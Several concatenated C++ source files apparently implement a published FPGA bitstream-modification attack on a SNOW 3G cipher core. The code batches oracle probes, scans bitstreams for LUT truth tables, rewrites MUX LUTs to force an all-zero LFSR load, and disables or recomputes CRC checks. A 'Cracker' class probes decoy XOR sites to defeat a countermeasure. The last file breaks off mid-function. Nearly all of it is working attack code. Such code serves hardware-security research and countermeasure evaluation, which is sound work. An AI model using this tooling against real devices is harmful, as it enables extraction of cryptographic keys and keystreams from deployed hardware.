  while (!queue.empty()) {
    const size_t take =
        queue.size() >= lanes ? (queue.size() / lanes) * lanes : queue.size();
    slots.clear();
    round.clear();
    size_t reissues = 0;
    for (size_t t = 0; t < take; ++t) {
      const size_t i = queue.front();
      queue.pop_front();
      --pending[i];
      if (ctl.settled(i)) continue;  // settled mid-bundle: drop leftover demand
      if (!issued_any[i]) {
        issued_any[i] = 1;  // the logical read the paper's metric pays for
      } else if (ctl.retrying(i)) {
        // Physical-overhead accounting at issue time: a re-issue after an
        // error is a retry, a re-read of a value under confirmation is a vote.
        ++stats_.retry_runs;
        ++reissues;
      } else {
        ++stats_.vote_runs;
        ++reissues;
      }
      slots.push_back(i);
      round.push_back(batch[i]);
    }
    if (round.empty()) continue;
    if (reissues > 0) {
      retry_rounds.add();
      if (obs::trace_enabled()) {
        obs::Tracer::global().instant("retry", "confirm_round", {{"unsettled", reissues}});
      }
    }
    const auto answers = oracle_.run_batch(round, config_.words);
    for (size_t k = 0; k < slots.size(); ++k) {
      const size_t i = slots[k];
      // A bundle-mate earlier in this call may have settled the slot; the
      // extra physical read is already spent and accounted, its answer is
      // simply not needed.
      if (ctl.settled(i)) continue;
      ctl.absorb(i, answers[k], stats_);
      if (pending[i] == 0 && !ctl.settled(i)) enqueue_demand(i);
    }
  }

  std::vector<ProbeOutcome> out(n);
  for (size_t i = 0; i < n; ++i) out[i] = ctl.take(i);
  // Health feedback: silent corruptions the vote layer caught are invisible
  // at the oracle boundary; report them so a fleet can quarantine the board
  // that produced them (a no-op for single-board oracles).
  if (const size_t caught = stats_.corruptions - corruptions_before; caught > 0) {
    oracle_.note_corruptions(caught);
  }
  return out;
}

ProbeOutcome ProbeSession::finalize(ProbeOutcome outcome) {
  if (!outcome.ok() && outcome.error() != ProbeError::kRejected &&
      fatal_ == ProbeError::kNone) {
    fatal_ = outcome.error();
  }
  return outcome;
}

ProbeOutcome ProbeSession::probe(const std::vector<u8>& bytes) {
  ++probe_calls_;
  const std::span<const std::vector<u8>> one(&bytes, 1);
  if (config_.cache == nullptr) {
    ++paper_runs_;
    return finalize(std::move(confirm_batch(one)[0]));
  }
  const runtime::ProbeKey key = runtime::make_probe_key(bytes, config_.words);
  if (auto cached = config_.cache->lookup(key)) {
    ++cache_hits_;
    return ProbeOutcome(std::move(*cached));
  }
  ++paper_runs_;
  ProbeOutcome result = std::move(confirm_batch(one)[0]);
  if (cacheable(result)) {
    config_.cache->store(key, result.to_optional());
    salvage(key.hi, key.lo, result);
  }
  return finalize(std::move(result));
}

void ProbeSession::salvage(u64 key_hi, u64 key_lo, const ProbeOutcome& outcome) {
  for (const auto& p : salvage_) {
    if (p.key_hi == key_hi && p.key_lo == key_lo &&
        p.words == static_cast<u64>(config_.words)) {
      return;
    }
  }
  SavedProbe saved;
  saved.key_hi = key_hi;
  saved.key_lo = key_lo;
  saved.words = static_cast<u64>(config_.words);
  saved.rejected = !outcome.ok();
  if (outcome.ok()) saved.keystream = outcome.value();
  salvage_.push_back(std::move(saved));
}

std::vector<ProbeOutcome> ProbeSession::probe_batch(std::span<const std::vector<u8>> batch) {
  static obs::Histogram& batch_size =
      obs::MetricsRegistry::global().histogram("attack.probe_batch_size");
  batch_size.observe(batch.size());
  probe_calls_ += batch.size();
  if (config_.cache == nullptr) {
    paper_runs_ += batch.size();
    auto out = confirm_batch(batch);
    for (auto& o : out) o = finalize(std::move(o));
    return out;
  }

  // Cache-aware batching, equivalent to probing the elements in order: each
  // element does exactly one cache lookup; the unique misses run as one
  // oracle batch and are stored; an in-batch duplicate of a miss does its
  // lookup after that store, so it hits — the same interaction sequence the
  // serial loop produces.
  const size_t n = batch.size();
  std::vector<ProbeOutcome> out(n);
  struct KeyHash {
    size_t operator()(const runtime::ProbeKey& k) const {
      return static_cast<size_t>(k.hi ^ (k.lo * 0x9e3779b97f4a7c15ull) ^ k.words);
    }
  };
  std::vector<runtime::ProbeKey> keys(n);
  std::unordered_map<runtime::ProbeKey, size_t, KeyHash> first_miss;  // key -> batch index
  std::vector<std::vector<u8>> misses;
  std::vector<size_t> miss_index;
  std::vector<size_t> dups;
  for (size_t i = 0; i < n; ++i) {
    keys[i] = runtime::make_probe_key(batch[i], config_.words);
    if (first_miss.count(keys[i])) {
      dups.push_back(i);  // lookup deferred until after the miss is stored
      continue;
    }
    if (auto cached = config_.cache->lookup(keys[i])) {
      ++cache_hits_;
      out[i] = ProbeOutcome(std::move(*cached));
      continue;
    }
    first_miss.emplace(keys[i], i);
    misses.push_back(batch[i]);
    miss_index.push_back(i);
  }
  if (!misses.empty()) {
    paper_runs_ += misses.size();
    auto results = confirm_batch(misses);
    for (size_t k = 0; k < misses.size(); ++k) {
      if (cacheable(results[k])) {
        config_.cache->store(keys[miss_index[k]], results[k].to_optional());
        salvage(keys[miss_index[k]].hi, keys[miss_index[k]].lo, results[k]);
      }
      out[miss_index[k]] = finalize(std::move(results[k]));
    }
  }
  for (const size_t i : dups) {
    if (auto cached = config_.cache->lookup(keys[i])) {
      ++cache_hits_;
      out[i] = ProbeOutcome(std::move(*cached));
    } else {
      // The first occurrence ended in an uncacheable (fatal) outcome; the
      // duplicate shares it without pretending a cache hit happened.
      out[i] = out[first_miss[keys[i]]];
    }
  }
  return out;
}

std::vector<u8> ProbeSession::with_patches(const std::vector<u8>& base,
                                           const std::vector<Patch>& patches) const {
  std::vector<u8> bytes = base;
  for (const Patch& p : patches) {
    bitstream::write_lut_init(bytes, p.byte_index, config_.offset_d, p.order, p.init);
  }
  // In recompute mode every probe carries a valid CRC (Section V-B's first
  // option); in disable mode the caller's base already has the check removed.
  if (config_.crc == CrcHandling::kRecompute && !patches.empty()) {
    bitstream::recompute_crc(bytes);
  }
  return bytes;
}

size_t ProbeSession::seed_resume(std::span<const SavedProbe> probes) {
  if (config_.cache == nullptr) return 0;
  for (const SavedProbe& p : probes) {
    config_.cache->store(runtime::ProbeKey{p.key_hi, p.key_lo, p.words},
                         p.rejected ? runtime::ProbeResult{}
                                    : runtime::ProbeResult(p.keystream));
  }
  return probes.size();
}

std::optional<BetaStage> establish_beta(ProbeSession& session, const std::vector<u8>& base,
                                        const FindLutOptions& find) {
  // Gather load-MUX candidates: exact full-table shapes plus half-table MUX
  // matches (for dual-output sites packed with arbitrary partners).  The
  // half-table scan also fires at unaligned byte positions whose chunks
  // straddle two real LUTs; the attacker prunes those with the frame
  // geometry learned from parsing the packet stream (FDRI offset and frame
  // size are format knowledge, exactly as in Section V).
  const bitstream::ParseResult parsed = bitstream::parse_bitstream(base);
  auto aligned = [&](size_t l) {
    if (!parsed.ok || parsed.fdri_byte_offset == 0) return true;
    if (l < parsed.fdri_byte_offset) return false;
    const size_t rel = l - parsed.fdri_byte_offset;
    return rel % 2 == 0 && (rel / bitstream::kFrameBytes) % 4 == 0;
  };

  struct MuxHit {
    LutMatch match;         // full-table hit (half_hit == false)
    HalfMatch half;         // half-table hit (half_hit == true)
    const Candidate* cand;  // which MUX shape matched
    bool half_hit;
  };
  std::vector<MuxHit> hits;
  std::set<size_t> seen;
  const std::vector<FamilyCount> mux_counts = scan_family(base, mux_scan_family(), find);
  for (size_t ci = 0; ci < mux_counts.size(); ++ci) {
    const Candidate& c = mux_scan_family()[ci];  // stable storage for MuxHit::cand
    for (const LutMatch& m : mux_counts[ci].matches) {
      if (aligned(m.byte_index) && seen.insert(m.byte_index).second) {
        hits.push_back({m, {}, &c, false});
      }
    }
  }
  // Dual-output sites pair a MUX with an arbitrary partner function, so the
  // full-table scan misses them; search each <= 5-input MUX shape as a
  // half-table too.
  std::set<std::pair<size_t, bool>> seen_half;
  for (const Candidate& c : mux_scan_family()) {
    if (c.function.support_size() > 5 || c.function.depends_on(5)) continue;
    for (const HalfMatch& h : find_lut_half(base, c.function.half(0), find)) {
      if (!aligned(h.byte_index) || seen.count(h.byte_index)) continue;
      if (seen_half.insert({h.byte_index, h.o5_half}).second) hits.push_back({{}, h, &c, true});
    }
  }

  // The zero-load reference: LFSR loaded with 0s, everything else intact.
  const std::vector<u32> ref = model_reference({0, false, true}, session.words());

  BetaStage stage;
  stage.candidates = hits.size();
  for (const bool active_high : {true, false}) {
    // One patch per byte position; half rewrites of the same site merge.
    std::map<size_t, Patch> patch_of;
    for (const MuxHit& h : hits) {
      if (!h.half_hit) {
        const TruthTable6 rewrite = h.cand->load_zero_rewrite(active_high);
        patch_of[h.match.byte_index] = {h.match.byte_index, h.match.order,
                                        rewrite.permuted(h.match.perm).bits()};
        continue;
      }
      const u32 new_half =
          permute_half5(h.cand->load_zero_rewrite(active_high).half(0), h.half.perm);
      auto it = patch_of.find(h.half.byte_index);
      u64 init = it != patch_of.end()
                     ? it->second.init
                     : bitstream::read_lut_init(base, h.half.byte_index, find.offset_d,
                                                h.half.order);
      const u32 lo = static_cast<u32>(init);
      const u32 hi = static_cast<u32>(init >> 32);
      if (lo == hi) {
        // Vacuous (single-output) table: both halves must change together.
        init = u64{new_half} | (u64{new_half} << 32);
      } else if (h.half.o5_half) {
        init = (init & 0xffffffff00000000ull) | new_half;
      } else {
        init = (init & 0x00000000ffffffffull) | (u64{new_half} << 32);
      }
      patch_of[h.half.byte_index] = {h.half.byte_index, h.half.order, init};
    }
    std::vector<Patch> patches;
    for (const auto& [l, p] : patch_of) patches.push_back(p);

    auto attempt = [&](const std::vector<Patch>& set) {
      const auto z = session.probe(session.with_patches(base, set));
      return z && *z == ref;
    };
    const bool whole_set_works = attempt(patches);
    if (session.device_lost()) return std::nullopt;
    if (whole_set_works) {
      stage.patches = std::move(patches);
    } else {
      // Leave-one-out refinement: a handful of false positives may have
      // landed on non-MUX logic; drop the ones whose removal helps.
      std::vector<Patch> kept = patches;
      bool fixed = false;
      for (size_t i = 0; i < patches.size() && !fixed && !session.device_lost(); ++i) {
        std::vector<Patch> trial;
        for (size_t j = 0; j < kept.size(); ++j) {
          if (kept[j].byte_index != patches[i].byte_index) trial.push_back(kept[j]);
        }
        if (trial.size() == kept.size()) continue;
        if (attempt(trial)) {
          kept = std::move(trial);
          fixed = true;
        }
      }
      // Shape-group refinement: with more than one false positive,
      // leave-one-out has no gradient (dropping one of several bad rewrites
      // still mismatches).  False positives cluster by the candidate shape
      // they matched — on the countermeasure's netlist the kept
      // feedback-stage XOR pairs happen to reproduce the folded-MUX tables —
      // so try dropping whole shape classes, singly then in pairs.  Probe
      // order is deterministic (family order), and this stage only runs
      // after leave-one-out failed, so the classic pipeline's probe
      // sequence is unchanged.
      if (!fixed && !session.device_lost()) {
        std::vector<std::string> groups;
        for (const MuxHit& h : hits) {
          if (h.cand == nullptr) continue;
          if (std::find(groups.begin(), groups.end(), h.cand->name) == groups.end()) {
            groups.push_back(h.cand->name);
          }
        }
        auto bytes_of = [&](const std::string& g1, const std::string& g2) {
          std::set<size_t> drop;
          for (const MuxHit& h : hits) {
            if (h.cand == nullptr) continue;
            if (h.cand->name != g1 && h.cand->name != g2) continue;
            drop.insert(h.half_hit ? h.half.byte_index : h.match.byte_index);
          }
          return drop;
        };
        auto try_drop = [&](const std::set<size_t>& drop) {
          if (drop.empty() || drop.size() >= patches.size()) return false;
          std::vector<Patch> trial;
          for (const Patch& p : patches) {
            if (!drop.count(p.byte_index)) trial.push_back(p);
          }
          if (trial.size() == patches.size()) return false;
          if (!attempt(trial)) return false;
          kept = std::move(trial);
          return true;
        };
        for (size_t a = 0; a < groups.size() && !fixed && !session.device_lost(); ++a) {
          fixed = try_drop(bytes_of(groups[a], groups[a]));
        }
        for (size_t a = 0; a < groups.size() && !fixed && !session.device_lost(); ++a) {
          for (size_t b = a + 1; b < groups.size() && !fixed && !session.device_lost(); ++b) {
            fixed = try_drop(bytes_of(groups[a], groups[b]));
          }
        }
      }
      if (session.device_lost()) return std::nullopt;
      if (!fixed) continue;  // try the other polarity
      stage.patches = std::move(kept);
    }
    stage.fold_sites.clear();
    std::set<size_t> kept_sites;
    for (const Patch& p : stage.patches) kept_sites.insert(p.byte_index);
    for (const MuxHit& h : hits) {
      if (h.cand == nullptr || h.cand->name.rfind("mux_fold", 0) != 0) continue;
      const size_t l = h.half_hit ? h.half.byte_index : h.match.byte_index;
      if (kept_sites.count(l)) stage.fold_sites.push_back(l);
    }
    stage.load_active_high = active_high;
    return stage;
  }
  return std::nullopt;
}

}  // namespace sbm::attack
