#include "attack/findlut.h"

#include <algorithm>
#include <unordered_map>

#include "attack/scan_engine.h"
#include "runtime/parallel.h"

namespace sbm::attack {

using bitstream::kChunkBytes;
using bitstream::kSubVectors;
using logic::InputPermutation;
using logic::TruthTable6;

const std::vector<std::array<u8, 4>>& all_chunk_orders() {
  static const std::vector<std::array<u8, 4>> orders = [] {
    std::vector<std::array<u8, 4>> out;
    std::array<u8, 4> p = {0, 1, 2, 3};
    do {
      out.push_back(p);
    } while (std::next_permutation(p.begin(), p.end()));
    return out;
  }();
  return orders;
}

namespace {

std::span<const std::array<u8, 4>> orders_for(const FindLutOptions& options) {
  if (options.try_all_orders) return all_chunk_orders();
  return bitstream::device_chunk_orders();
}

}  // namespace

LutPatterns precompute_patterns(TruthTable6 f) {
  // Precompute xi(F_pi) for every distinct permuted truth table.
  LutPatterns patterns;
  for (const auto& perm : logic::all_permutations6()) {
    const TruthTable6 t = f.permuted(perm);
    patterns.by_stored_bits.try_emplace(bitstream::xi_permute(t.bits()),
                                        LutPatterns::Pattern{t, perm});
  }
  return patterns;
}

std::vector<LutMatch> find_lut_range(std::span<const u8> bitstream, const LutPatterns& patterns,
                                     size_t l_begin, size_t l_end,
                                     const FindLutOptions& options) {
  std::vector<LutMatch> matches;
  const size_t d = options.offset_d;
  if (bitstream.size() < (kSubVectors - 1) * d + kChunkBytes) return matches;
  const auto orders = orders_for(options);
  const size_t last = bitstream.size() - (kSubVectors - 1) * d - kChunkBytes;
  l_end = std::min(l_end, last + 1);
  for (size_t l = l_begin; l < l_end; ++l) {
    for (const auto& order : orders) {
      const u64 b = bitstream::assemble_b(bitstream, l, d, order);
      const auto it = patterns.by_stored_bits.find(b);
      if (it == patterns.by_stored_bits.end()) continue;
      matches.push_back({l, it->second.table, it->second.perm, order});
      break;  // Mark(l): one hit per byte position
    }
  }
  return matches;
}

std::vector<LutMatch> find_lut(std::span<const u8> bitstream, TruthTable6 f,
                               const FindLutOptions& options) {
  const auto index = shared_pattern_index({&f, 1}, options);
  auto per_candidate = scan_all(bitstream, *index, options);
  return std::move(per_candidate[0]);
}

std::vector<LutMatch> find_lut_naive(std::span<const u8> bitstream, TruthTable6 f,
                                     const FindLutOptions& options) {
  std::vector<LutMatch> matches;
  const size_t d = options.offset_d;
  if (bitstream.size() < (kSubVectors - 1) * d + kChunkBytes) return matches;
  const auto orders = orders_for(options);
  const size_t last = bitstream.size() - (kSubVectors - 1) * d - kChunkBytes;

  std::vector<bool> marked(bitstream.size(), false);
  // for each (i1..ik) in P_k:
  for (const auto& perm : logic::all_permutations6()) {
    const TruthTable6 table = f.permuted(perm);           // GETTRUTHTABLE
    const u64 b = bitstream::xi_permute(table.bits());    // B = xi(F)

    for (size_t l = 0; l <= last; ++l) {
      if (marked[l]) continue;
      for (const auto& order : orders) {
        if (bitstream::assemble_b(bitstream, l, d, order) != b) continue;
        matches.push_back({l, table, perm, order});
        marked[l] = true;  // Mark(l)
        break;
      }
    }
  }
  std::sort(matches.begin(), matches.end(),
            [](const LutMatch& a, const LutMatch& b) { return a.byte_index < b.byte_index; });
  return matches;
}

}  // namespace sbm::attack
