#include "attack/findlut.h"

#include <algorithm>
#include <unordered_map>

#include "runtime/parallel.h"

namespace sbm::attack {

using bitstream::kChunkBytes;
using bitstream::kSubVectors;
using logic::InputPermutation;
using logic::TruthTable6;

const std::vector<std::array<u8, 4>>& all_chunk_orders() {
  static const std::vector<std::array<u8, 4>> orders = [] {
    std::vector<std::array<u8, 4>> out;
    std::array<u8, 4> p = {0, 1, 2, 3};
    do {
      out.push_back(p);
    } while (std::next_permutation(p.begin(), p.end()));
    return out;
  }();
  return orders;
}

namespace {

std::span<const std::array<u8, 4>> orders_for(const FindLutOptions& options) {
  if (options.try_all_orders) return all_chunk_orders();
  return bitstream::device_chunk_orders();
}

/// Reads the 4 chunks at position l (stride d) and reassembles the stored
/// 64-bit B vector assuming chunk c holds sub-vector order[c].
u64 assemble_b(std::span<const u8> bytes, size_t l, size_t d, const std::array<u8, 4>& order) {
  u64 b = 0;
  for (unsigned c = 0; c < kSubVectors; ++c) {
    const u16 sub = static_cast<u16>(bytes[l + c * d] | (u16{bytes[l + c * d + 1]} << 8));
    b |= u64{sub} << (16 * order[c]);
  }
  return b;
}

}  // namespace

LutPatterns precompute_patterns(TruthTable6 f) {
  // Precompute xi(F_pi) for every distinct permuted truth table.
  LutPatterns patterns;
  for (const auto& perm : logic::all_permutations6()) {
    const TruthTable6 t = f.permuted(perm);
    patterns.by_stored_bits.try_emplace(bitstream::xi_permute(t.bits()),
                                        LutPatterns::Pattern{t, perm});
  }
  return patterns;
}

std::vector<LutMatch> find_lut_range(std::span<const u8> bitstream, const LutPatterns& patterns,
                                     size_t l_begin, size_t l_end,
                                     const FindLutOptions& options) {
  std::vector<LutMatch> matches;
  const size_t d = options.offset_d;
  if (bitstream.size() < (kSubVectors - 1) * d + kChunkBytes) return matches;
  const auto orders = orders_for(options);
  const size_t last = bitstream.size() - (kSubVectors - 1) * d - kChunkBytes;
  l_end = std::min(l_end, last + 1);
  for (size_t l = l_begin; l < l_end; ++l) {
    for (const auto& order : orders) {
      const u64 b = assemble_b(bitstream, l, d, order);
      const auto it = patterns.by_stored_bits.find(b);
      if (it == patterns.by_stored_bits.end()) continue;
      matches.push_back({l, it->second.table, it->second.perm, order});
      break;  // Mark(l): one hit per byte position
    }
  }
  return matches;
}

std::vector<LutMatch> find_lut(std::span<const u8> bitstream, TruthTable6 f,
                               const FindLutOptions& options) {
  const size_t d = options.offset_d;
  if (bitstream.size() < (kSubVectors - 1) * d + kChunkBytes) return {};
  const LutPatterns patterns = precompute_patterns(f);
  const size_t positions = bitstream.size() - (kSubVectors - 1) * d - kChunkBytes + 1;

  const size_t shards = runtime::shard_count(options.pool, positions, options.shard_grain);
  if (shards <= 1) return find_lut_range(bitstream, patterns, 0, positions, options);

  // Shard the byte-position scan; concatenating shard outputs in range
  // order reproduces the serial ascending-l order exactly.
  auto per_shard = runtime::parallel_map(
      options.pool, shards,
      [&](size_t s) {
        return find_lut_range(bitstream, patterns, positions * s / shards,
                              positions * (s + 1) / shards, options);
      },
      /*min_grain=*/1);
  std::vector<LutMatch> matches;
  for (auto& part : per_shard) {
    matches.insert(matches.end(), part.begin(), part.end());
  }
  return matches;
}

std::vector<LutMatch> find_lut_naive(std::span<const u8> bitstream, TruthTable6 f,
                                     const FindLutOptions& options) {
  std::vector<LutMatch> matches;
  const size_t d = options.offset_d;
  if (bitstream.size() < (kSubVectors - 1) * d + kChunkBytes) return matches;
  const auto orders = orders_for(options);
  const size_t last = bitstream.size() - (kSubVectors - 1) * d - kChunkBytes;

  std::vector<bool> marked(bitstream.size(), false);
  // for each (i1..ik) in P_k:
  for (const auto& perm : logic::all_permutations6()) {
    const TruthTable6 table = f.permuted(perm);           // GETTRUTHTABLE
    const u64 b = bitstream::xi_permute(table.bits());    // B = xi(F)
    std::array<u16, kSubVectors> sub{};                   // B = (B1,...,Br)
    for (unsigned j = 0; j < kSubVectors; ++j) sub[j] = static_cast<u16>(b >> (16 * j));

    for (size_t l = 0; l <= last; ++l) {
      if (marked[l]) continue;
      for (const auto& order : orders) {
        bool match = true;
        for (unsigned c = 0; c < kSubVectors && match; ++c) {
          const u16 stored =
              static_cast<u16>(bitstream[l + c * d] | (u16{bitstream[l + c * d + 1]} << 8));
          match = stored == sub[order[c]];
        }
        if (match) {
          matches.push_back({l, table, perm, order});
          marked[l] = true;  // Mark(l)
          break;
        }
      }
    }
  }
  std::sort(matches.begin(), matches.end(),
            [](const LutMatch& a, const LutMatch& b) { return a.byte_index < b.byte_index; });
  return matches;
}

}  // namespace sbm::attack
