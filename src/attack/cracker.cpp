#include "attack/cracker.h"

#include <algorithm>
#include <cmath>
#include <map>
#include <set>

#include "bitstream/patcher.h"
#include "obs/trace.h"
#include "runtime/probe_cache.h"

namespace sbm::attack {

DecoyHypothesisSet::DecoyHypothesisSet(size_t candidates, unsigned bits)
    : state_(candidates, CandidateState::kUnknown),
      claimed_bit_(candidates, -1),
      claimants_(bits),
      unknown_(candidates) {}

void DecoyHypothesisSet::classify(size_t id, const ClassifiedResponse& response) {
  if (state_[id] != CandidateState::kUnknown) return;
  --unknown_;
  if (response.cls == ResponseClass::kSourceCut && response.bit >= 0 &&
      response.bit < static_cast<int>(bits())) {
    state_[id] = CandidateState::kClaimant;
    claimed_bit_[id] = response.bit;
    auto& c = claimants_[static_cast<size_t>(response.bit)];
    c.insert(std::lower_bound(c.begin(), c.end(), id), id);
  } else {
    // baseline: the site has no effect on v.  column-dead: it kills z[i]
    // but not the feedback image of v[i] — the z-path decoy's signature,
    // provably not the source.  other/rejected: inconsistent with being a
    // lone v copy.
    state_[id] = CandidateState::kEliminated;
  }
}

void DecoyHypothesisSet::note_pair(size_t a, size_t b, const ClassifiedResponse& response) {
  if (a > b) std::swap(a, b);
  pairs_[{a, b}] = response;
}

double DecoyHypothesisSet::log2_hypotheses() const {
  // Each bit's source could be any current claimant or any still-unknown
  // candidate; the product over bits upper-bounds the consistent
  // assignments.  0 exactly when every bit is pinned to one claimant.
  double sum = 0;
  for (const auto& c : claimants_) {
    sum += std::log2(static_cast<double>(unknown_ + std::max<size_t>(c.size(), 1)));
  }
  return sum;
}

bool DecoyHypothesisSet::unique() const {
  if (unknown_ != 0) return false;
  for (const auto& c : claimants_) {
    if (c.size() != 1) return false;
  }
  return true;
}

bool DecoyHypothesisSet::bit_proven_ambiguous(unsigned bit) const {
  const auto& c = claimants_[bit];
  if (c.size() < 2) return false;
  for (size_t i = 0; i < c.size(); ++i) {
    for (size_t j = i + 1; j < c.size(); ++j) {
      const auto it = pairs_.find({c[i], c[j]});
      if (it == pairs_.end() || it->second.cls != ResponseClass::kBaseline) return false;
    }
  }
  return true;
}

bool DecoyHypothesisSet::proven_ambiguous() const {
  if (unknown_ != 0) return false;
  // A verdict of "ambiguous" is only a proof when every multi-claimant
  // class is pairwise-cancelling — a class that is merely unprobed or
  // inconsistent is unfinished business, not a proof.
  bool any_multi = false;
  for (unsigned i = 0; i < bits(); ++i) {
    if (claimants_[i].size() > 1) {
      any_multi = true;
      if (!bit_proven_ambiguous(i)) return false;
    }
  }
  return any_multi;
}

std::vector<std::vector<size_t>> DecoyHypothesisSet::plan() const {
  std::vector<std::vector<size_t>> round;
  // Greedy split: an unprobed singleton's response ranges over all 2b + 2
  // classes and is independent of every other candidate, so while unknowns
  // remain the singleton sweep is the maximal-entropy round.
  for (size_t id = 0; id < state_.size(); ++id) {
    if (state_[id] == CandidateState::kUnknown) round.push_back({id});
  }
  if (!round.empty()) return round;
  // Residual multi-claimant classes: the only remaining split is the
  // intra-class pair probe (does the pair cancel back to baseline?).
  for (const auto& c : claimants_) {
    if (c.size() < 2) continue;
    for (size_t i = 0; i < c.size(); ++i) {
      for (size_t j = i + 1; j < c.size(); ++j) {
        if (!pairs_.count({c[i], c[j]})) round.push_back({c[i], c[j]});
      }
    }
  }
  return round;
}

CrackLoopStats run_crack_loop(DecoyHypothesisSet& hyp, const CrackProbeFn& probe) {
  CrackLoopStats stats;
  while (true) {
    const auto round = hyp.plan();
    if (round.empty()) break;
    const auto responses = probe(round);
    ++stats.rounds;
    stats.probes += round.size();
    for (size_t k = 0; k < round.size() && k < responses.size(); ++k) {
      if (!responses[k]) {
        stats.aborted = true;
        return stats;
      }
      if (round[k].size() == 1) {
        hyp.classify(round[k][0], *responses[k]);
      } else if (round[k].size() == 2) {
        hyp.note_pair(round[k][0], round[k][1], *responses[k]);
      }
    }
    stats.log2_by_round.push_back(hyp.log2_hypotheses());
    if (hyp.unique() || hyp.proven_ambiguous()) break;
  }
  return stats;
}

namespace {

ProbeSessionConfig session_config(const CrackerConfig& config) {
  ProbeSessionConfig sc;
  sc.words = config.words;
  sc.crc = config.crc;
  sc.offset_d = config.find.offset_d;
  sc.cache = config.cache;
  sc.retry = config.retry;
  sc.controller = config.controller;
  sc.adaptive = config.adaptive;
  return sc;
}

}  // namespace

Cracker::Cracker(Oracle& oracle, std::span<const u8> golden, const CrackerConfig& config)
    : oracle_(oracle),
      config_(config),
      session_(oracle, session_config(config)),
      golden_(golden.begin(), golden.end()) {}

CrackResult Cracker::execute() {
  CrackResult result;
  obs::Span exec_span("cracker", "execute");
  auto note = [&result](std::string msg) { result.log.push_back(std::move(msg)); };
  auto finish = [&](bool ok) {
    result.success = ok;
    result.adaptive_probes = session_.oracle_runs();
    result.cache_hits = session_.cache_hits();
    result.probe_calls = session_.probe_calls();
    result.retry_stats = session_.stats();
    result.salvaged = session_.salvaged();
    return result;
  };

  if (!config_.resume.empty() && config_.cache != nullptr) {
    const size_t seeded = session_.seed_resume(config_.resume);
    note("resume: pre-seeded " + std::to_string(seeded) + " salvaged probe outcome(s)");
  }

  // Setup: baseline keystream + CRC neutralization (same contract as the
  // key-recovery pipeline).
  const auto z0 = session_.probe(golden_);
  if (session_.device_lost() || !z0) {
    result.failure =
        session_.device_lost() ? "device lost during setup" : "golden bitstream rejected";
    return finish(false);
  }
  std::vector<u8> base = golden_;
  if (config_.crc == CrcHandling::kDisable) {
    const size_t disabled = bitstream::disable_crc(base);
    note("disabled " + std::to_string(disabled) + " CRC check(s)");
    const auto z1 = session_.probe(base);
    if (session_.device_lost() || !z1 || *z1 != *z0) {
      result.failure = "CRC-disabled bitstream does not behave like the original";
      return finish(false);
    }
  }

  // Candidate pool: every frame-aligned XOR2 half placement, per half (a
  // vacuous dual site is two independently zeroable placements), plus the
  // defender's folded site count for the static bound it advertises.
  const auto sites = unique_xor2_half_sites(base, config_.find, /*fold_vacuous=*/false);
  result.candidates = sites.size();
  result.unique_sites = unique_xor2_half_sites(base, config_.find, /*fold_vacuous=*/true).size();
  if (result.unique_sites >= 64) {
    result.log2_static_bound =
        log2_binomial(static_cast<unsigned>(result.unique_sites) - 32, 32);
  }
  if (sites.size() < 32) {
    result.failure = "fewer than 32 XOR2 candidate placements: not a protected victim";
    return finish(false);
  }
  note("candidates: " + std::to_string(sites.size()) + " XOR2 half placements (" +
       std::to_string(result.unique_sites) + " sites; defender bound 2^" +
       std::to_string(static_cast<long>(result.log2_static_bound)) + ")");

  // Beta: zero-load fault so every reference class is computable offline.
  const auto beta = establish_beta(session_, base, config_.find);
  if (!beta) {
    result.failure = session_.device_lost() ? "device lost during beta"
                                      : "beta fault (all-zero LFSR load) could not be established";
    return finish(false);
  }
  note("beta established with " + std::to_string(beta->patches.size()) + " MUX rewrites");
  const std::vector<u8> base_beta = session_.with_patches(base, beta->patches);

  // Reference library: baseline, source-cut(i), column-dead(i) — 65
  // pairwise-distinct keystream prefixes under the zero-load state.
  const std::vector<u32> baseline = model_reference({0, false, true}, config_.words);
  {
    const auto zb = session_.probe(base_beta);
    if (session_.device_lost() || !zb || *zb != baseline) {
      result.failure = "zero-load baseline does not match the model reference";
      return finish(false);
    }
  }
  std::map<std::vector<u32>, ClassifiedResponse> classes;
  classes[baseline] = {ResponseClass::kBaseline, -1};
  bool distinct = true;
  for (unsigned i = 0; i < 32; ++i) {
    // Cutting v[i] at the source removes it from both consumers: the
    // feedback image is the mask-i fault model, and z[i] collapses to the
    // raw LFSR column s0[i].
    snow3g::Snow3g m({}, {}, {u32{1} << i, false, true});
    std::vector<u32> sourcecut;
    for (size_t t = 0; t < config_.words; ++t) {
      const u32 s0 = m.lfsr()[0];
      const u32 z = m.next();
      sourcecut.push_back((z & ~(u32{1} << i)) | (s0 & (u32{1} << i)));
    }
    // A z-path decoy only kills the output column; the feedback stays
    // intact, so the response is the baseline with column i forced low.
    std::vector<u32> columndead = baseline;
    for (u32& w : columndead) w &= ~(u32{1} << i);
    distinct &= classes
                    .emplace(std::move(sourcecut),
                             ClassifiedResponse{ResponseClass::kSourceCut, static_cast<int>(i)})
                    .second;
    distinct &= classes
                    .emplace(std::move(columndead),
                             ClassifiedResponse{ResponseClass::kColumnDead, static_cast<int>(i)})
                    .second;
  }
  if (!distinct) {
    result.failure = "reference classes collide at words=" + std::to_string(config_.words) +
                     "; increase CrackerConfig::words";
    return finish(false);
  }

  // Patch builder: zero the matched halves of a candidate subset on top of
  // the beta baseline (merging subsets that share a physical byte).
  auto patched = [&](const std::vector<size_t>& ids) {
    std::map<size_t, Patch> by_byte;
    for (const size_t id : ids) {
      const HalfMatch& h = sites[id];
      auto it = by_byte.find(h.byte_index);
      if (it == by_byte.end()) {
        const u64 stored =
            bitstream::read_lut_init(base_beta, h.byte_index, config_.find.offset_d, h.order);
        it = by_byte.emplace(h.byte_index, Patch{h.byte_index, h.order, stored}).first;
      }
      it->second.init &= h.o5_half ? 0xffffffff00000000ull : 0x00000000ffffffffull;
    }
    std::vector<Patch> patches;
    patches.reserve(by_byte.size());
    for (const auto& [l, p] : by_byte) patches.push_back(p);
    return session_.with_patches(base_beta, patches);
  };

  DecoyHypothesisSet hyp(sites.size());
  const double initial = hyp.log2_hypotheses();
  bool lost = false;
  const CrackLoopStats stats =
      run_crack_loop(hyp, [&](const std::vector<std::vector<size_t>>& round) {
        std::vector<std::vector<u8>> probes;
        probes.reserve(round.size());
        for (const auto& ids : round) probes.push_back(patched(ids));
        const auto outs = session_.probe_batch(probes);
        std::vector<std::optional<ClassifiedResponse>> responses(round.size());
        for (size_t k = 0; k < outs.size(); ++k) {
          if (session_.device_lost()) {
            lost = true;
            break;
          }
          if (!outs[k]) {
